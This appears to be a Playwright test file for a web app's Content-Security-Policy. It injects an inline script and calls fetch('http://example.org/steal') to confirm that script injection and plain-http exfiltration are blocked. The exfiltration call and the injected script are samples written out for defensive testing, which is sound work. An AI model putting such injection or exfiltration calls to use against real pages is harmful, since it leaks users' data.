/**
 * The Content-Security-Policy: only the studio's own scripts run, and nothing is sent anywhere but
 * the studio's origin and https model URLs. (Every other spec fails on a violation; see fixtures.ts.)
 */
import { test, expect } from './fixtures';

test('the studio ships a Content-Security-Policy that blocks inline script and non-https exfiltration', async ({ page }) => {
  const response = await page.goto('./?backend=wasm');
  expect(response?.headers()['content-security-policy']).toContain("script-src 'self'");
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(meta).toContain("default-src 'self'");
  expect(meta).toContain("'wasm-unsafe-eval'");
  await expect(page.getByRole('heading', { name: /Data/ })).toBeVisible();

  const result = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true';
    document.head.append(script);
    const plainHttp = await fetch('http://example.org/steal').then(
      () => 'sent',
      () => 'blocked',
    );
    await new Promise((r) => setTimeout(r, 100));
    return { injected: (window as unknown as { __injected?: boolean }).__injected ?? false, plainHttp, violations };
  });
  expect(result.injected).toBe(false);
  expect(result.plainHttp).toBe('blocked');
  expect(result.violations).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']));
});
